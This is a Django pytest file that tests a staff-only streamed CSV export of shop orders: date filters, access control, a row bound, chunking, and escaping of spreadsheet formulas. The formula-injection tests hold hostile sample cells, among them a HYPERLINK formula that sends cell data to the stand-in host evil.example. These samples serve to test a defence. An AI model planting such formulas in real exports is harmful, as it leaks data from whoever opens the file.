import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from django.utils import timezone

from storefront.dashboards import order_csv
from storefront.orders.models import Order
from storefront.orders.selectors import order_export_rows
from tests.factories import ProductFactory, StaffFactory, UserFactory, order_with_lines

pytestmark = pytest.mark.django_db
URL = "/staff/orders/export.csv"


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_export_streams_every_order_as_csv(client: Client) -> None:
    buyer = UserFactory(username="ada", email="ada@example.com")
    product = ProductFactory(price=Decimal("12.50"))
    first = order_with_lines(user=buyer, products=[product], quantity=2)
    second = order_with_lines(user=buyer, products=[product])
    client.force_login(StaffFactory())
    response = client.get(URL)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="orders.csv"'
    table = rows(response)
    assert table[0] == ["number", "created_at", "status", "username", "email", "items", "total"]
    assert [r[0] for r in table[1:]] == [first.number, second.number]
    assert table[1][3:] == ["ada", "ada@example.com", "2", "25.00"]


def test_export_filters_by_date(client: Client) -> None:
    old = order_with_lines(user=UserFactory(), products=[ProductFactory()])
    Order.objects.filter(pk=old.pk).update(created_at=timezone.now() - dt.timedelta(days=10))
    new = order_with_lines(user=UserFactory(), products=[ProductFactory()])
    client.force_login(StaffFactory())
    since = (timezone.localdate() - dt.timedelta(days=1)).isoformat()
    assert [r[0] for r in rows(client.get(f"{URL}?since={since}"))[1:]] == [new.number]
    assert [r[0] for r in rows(client.get(f"{URL}?until={since}"))[1:]] == [old.number]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("since=yesterday", "Enter a valid date."),
        ("since=2026-02-01&until=2026-01-01", "must not be after"),
    ],
)
def test_bad_export_filters_are_400(client: Client, query: str, message: str) -> None:
    client.force_login(StaffFactory())
    response = client.get(f"{URL}?{query}")
    assert response.status_code == 400
    assert message in response.content.decode()


def test_export_is_staff_only(client: Client) -> None:
    assert client.get(URL).status_code == 302
    client.force_login(UserFactory())
    assert client.get(URL).status_code == 403


# --- formula injection ------------------------------------------------------------------------


def test_spreadsheet_formulas_in_names_and_emails_come_out_as_text(client: Client) -> None:
    """A customer's username or email that a spreadsheet would run as a formula is written with
    a leading single quote (OWASP), so it shows as the text it is; numbers stay numbers."""
    product = ProductFactory(price=Decimal("12.50"))
    hostile = [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "-50%lamp@example.com"),
        ("@SUM(1+1)", "+31612345678@example.com"),
        ("\tcmd", "\r=1+1@example.com"),
    ]
    for username, email in hostile:
        order_with_lines(user=UserFactory(username=username, email=email), products=[product])
    client.force_login(StaffFactory())

    table = rows(client.get(URL))

    assert [row[3:5] for row in table[1:]] == [
        ["'" + username, "'" + email] for username, email in hostile
    ]
    assert [row[5:] for row in table[1:]] == [["1", "12.50"]] * 3


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("-50% lamp", "'-50% lamp"),
        ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
        ("+1", "'+1"),
        ("@cmd", "'@cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Desk lamp -50%", "Desk lamp -50%"),  # only the first character matters
        ("", ""),
        (Decimal("-3.50"), Decimal("-3.50")),  # a number is data, never a formula
        (-2, -2),
        (None, None),
    ],
)
def test_spreadsheet_safe_neutralises_formula_triggers_only(cell, written) -> None:
    assert order_csv.spreadsheet_safe(cell) == written


def test_every_csv_writer_of_the_shop_is_the_safe_one() -> None:
    """No module writes CSV around the helper: csv.writer / DictWriter appear only in it."""
    package = Path(order_csv.__file__).resolve().parents[1]
    writers = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if "/tests/" not in path.as_posix()
        and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text())
    }
    assert writers == {"dashboards/order_csv.py"}


# --- the streamed range is bounded --------------------------------------------------------------


@pytest.fixture
def bound_of_two(monkeypatch: pytest.MonkeyPatch) -> int:
    monkeypatch.setattr(order_csv, "STREAMED_EXPORT_MAX_ORDERS", 2)
    return 2


def test_export_up_to_the_bound_streams(client: Client, bound_of_two: int) -> None:
    buyer, product = UserFactory(), ProductFactory()
    orders = [order_with_lines(user=buyer, products=[product]) for _ in range(bound_of_two)]
    client.force_login(StaffFactory())

    response = client.get(URL)

    assert response.status_code == 200
    assert [r[0] for r in rows(response)[1:]] == [o.number for o in orders]


def test_export_past_the_bound_goes_to_the_file_export(client: Client, bound_of_two: int) -> None:
    buyer, product = UserFactory(), ProductFactory()
    for _ in range(bound_of_two + 1):
        order_with_lines(user=buyer, products=[product])
    client.force_login(StaffFactory())

    response = client.get(URL)

    assert response.status_code == 302
    assert response["Location"] == "/staff/orders/exports/"
    page = client.get(response["Location"]).content.decode()
    assert "More than 2 orders: use Export to file" in page
    assert 'id="export-form"' in page


def test_the_bound_counts_only_the_orders_in_the_chosen_days(
    client: Client, bound_of_two: int
) -> None:
    buyer, product = UserFactory(), ProductFactory()
    old = [order_with_lines(user=buyer, products=[product]) for _ in range(bound_of_two + 1)]
    Order.objects.filter(pk__in=[o.pk for o in old]).update(
        created_at=timezone.now() - dt.timedelta(days=10)
    )
    recent = order_with_lines(user=buyer, products=[product])
    client.force_login(StaffFactory())
    yesterday = (timezone.localdate() - dt.timedelta(days=1)).isoformat()

    assert client.get(URL).status_code == 302  # all of them: too many
    assert client.get(f"{URL}?until={yesterday}").status_code == 302  # the old ones: too many
    response = client.get(f"{URL}?since={yesterday}")
    assert response.status_code == 200
    assert [r[0] for r in rows(response)[1:]] == [recent.number]


def test_streamed_export_arrives_in_chunks_of_whole_lines(client: Client) -> None:
    """Written in pieces of about 64 KiB (one write each instead of one per row), each ending
    at a line's end, and together exactly the CSV."""
    buyer, product = UserFactory(), ProductFactory()
    for _ in range(3):
        order_with_lines(user=buyer, products=[product])
    lines = list(order_csv.order_csv_lines(order_export_rows()))

    chunks = list(order_csv.order_csv_chunks(order_export_rows(), size=100))

    assert "".join(chunks) == "".join(lines)
    assert 1 < len(chunks) < len(lines)
    assert all(chunk.endswith("\r\n") for chunk in chunks)
